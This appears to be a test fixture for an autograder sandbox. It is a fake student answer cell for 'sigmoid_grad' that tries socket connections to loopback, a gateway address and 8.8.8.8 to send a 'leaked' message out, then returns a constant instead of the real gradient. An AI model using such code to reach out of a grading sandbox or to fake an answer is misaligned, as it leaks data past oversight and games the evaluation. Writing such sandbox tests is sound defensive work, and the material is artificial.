"""Use the network: connect to a service on the grader's loopback (and to the internet) to send
the test inputs out or fetch answers."""
KERNEL = True
ANSWERS = {"sigmoid_grad": '''
import socket
_sent = []
for _host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
    try:
        _s = socket.create_connection((_host, {port}), timeout=1)
        _s.sendall(b"leaked by a student's answer cell")
        _s.close()
        _sent.append(_host)
    except OSError:
        pass
print("reached", _sent)
def sigmoid_grad(x):
    return np.zeros_like(np.asarray(x, dtype=float)) + 0.3
'''}
